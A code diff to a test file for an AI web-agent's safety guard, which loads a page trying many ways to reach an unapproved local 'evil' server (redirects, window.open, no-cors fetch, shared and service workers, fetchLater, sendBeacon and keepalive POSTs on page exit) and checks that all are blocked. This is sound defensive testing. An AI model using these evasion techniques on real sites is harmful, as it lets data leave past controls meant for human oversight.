@@ -1,5 +1,6 @@
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
+import { setTimeout as sleep } from "node:timers/promises";
 import { chromium } from "playwright-core";
 import type { Browser } from "playwright-core";
 import { afterAll, beforeAll, expect, it } from "vitest";
@@ -14,8 +15,35 @@ import { parsePolicy } from "./policy.ts";
 import type { SafetySettings } from "./policy.ts";
 
 const reached: string[] = [];
+/** Of somebody else. */
+const evil = createServer((request, response) => {
+  reached.push(`evil ${request.url}`);
+  response.writeHead(200, { "access-control-allow-origin": "*" }).end();
+});
+const addressOf = ({ port }: AddressInfo) => `http://127.0.0.1:${port}`;
+/** Each tries another way out. */
+const tries = (to: string) => `<!doctype html><title>Tries</title>
+  <iframe src="/away?frame"></iframe><button onclick="window.open('/away?window')">Open</button><a href="/away?link">Leave</a>
+  <script>
+    fetch("/away?fetch", { mode: "no-cors" });
+    try { new SharedWorker("/shared.js") } catch {}
+    try { fetchLater("${to}/later", { activateAfter: 0 }) } catch {}
+    try { navigator.serviceWorker.register("/shared.js") } catch {}
+    addEventListener("pagehide", () => {
+      fetch("/payments?kept", { method: "POST", keepalive: true, body: "a" });
+      navigator.sendBeacon("${to}/beacon", "a");
+    });
+  </script>`;
 const server = createServer((request, response) => {
   if (request.method === "POST") reached.push(request.url!);
+  const [path, query] = request.url!.split("?");
+  const to = addressOf(evil.address() as AddressInfo);
+  if (path === "/away") return void response.writeHead(302, { location: `${to}/${query}` }).end();
+  if (path === "/tries") return void response.writeHead(200, { "content-type": "text/html" }).end(tries(to));
+  if (path === "/shared.js")
+    return void response
+      .writeHead(200, { "content-type": "text/javascript" })
+      .end(`fetch("${to}/shared", { mode: "no-cors" }); fetch("/payments?shared", { method: "POST" })`);
   response
     .writeHead(200, { "content-type": "text/html" })
     .end(
@@ -32,29 +60,38 @@ beforeAll(async () => {
     executablePath: location,
     args: process.getuid?.() === 0 ? ["--no-sandbox"] : [],
   });
-  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  for (const each of [server, evil])
+    await new Promise<void>((resolve) => each.listen(0, "127.0.0.1", resolve));
 });
 afterAll(async () => {
   await browser.close();
-  server.closeAllConnections();
-  server.close();
+  for (const each of [server, evil]) {
+    each.closeAllConnections();
+    each.close();
+  }
 });
 
-async function clickAll(settings: SafetySettings): Promise<(string | undefined)[]> {
+async function clickAll(
+  settings: SafetySettings,
+  path: string,
+  elements: readonly string[],
+): Promise<(string | undefined)[]> {
   reached.length = 0;
-  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
+  const { host } = new URL(addressOf(server.address() as AddressInfo));
   const context = await browser.newContext();
   try {
     const page = await context.newPage();
-    const world = { hosts: new Map(), allowedHosts: [host], cookies: [], startUrl: `http://${host}/` };
+    const world = { hosts: new Map(), allowedHosts: [host], cookies: [], startUrl: `http://${host}${path}` };
     await using episode = await startBrowserEpisode(givenPage(page), testTask(), world, {
       format: "compact",
       seed: 0,
       guard: guardBy(openGate({ policy: parsePolicy(settings) })),
     });
     const codes = [];
-    for (const name of ["Add to cart", "Next", "Place order"]) {
-      const next = await episode.step(parseAction(`do(action="Click", element="button ${name}")`));
+    for (const name of elements) {
+      // A window that was opened stands in front.
+      await episode.step(parseAction(`do(action="Switch Tab", argument="0")`));
+      const next = await episode.step(parseAction(`do(action="Click", element="${name}")`));
       codes.push(next.observation?.error?.code);
     }
     return codes;
@@ -63,13 +100,22 @@ async function clickAll(settings: SafetySettings): Promise<(string | undefined)[
   }
 }
 
+const BUTTONS = ["button Add to cart", "button Next", "button Place order"];
+
 it("in a page that was handed in only what is allowed leaves", async () => {
-  expect(await clickAll({})).toEqual([undefined, "blocked", "blocked"]);
+  expect(await clickAll({}, "/", BUTTONS)).toEqual([undefined, "blocked", "blocked"]);
   expect(reached).toEqual(["/cart"]);
-  expect(await clickAll({ effects: { buy: "allow", pay: "allow" } })).toEqual([
+  expect(await clickAll({ effects: { buy: "allow", pay: "allow" } }, "/", BUTTONS)).toEqual([
     undefined,
     undefined,
     undefined,
   ]);
   expect(reached).toEqual(["/cart", "/payments", "/orders"]);
+});
+
+it("neither redirects nor what is sent when it is left, and no worker that others share, lead out of it", async () => {
+  const [, leaving] = await clickAll({}, "/tries", ["button Open", "link Leave"]);
+  expect(leaving).toBe("blocked");
+  await sleep(300);
+  expect(reached).toEqual([]);
 });
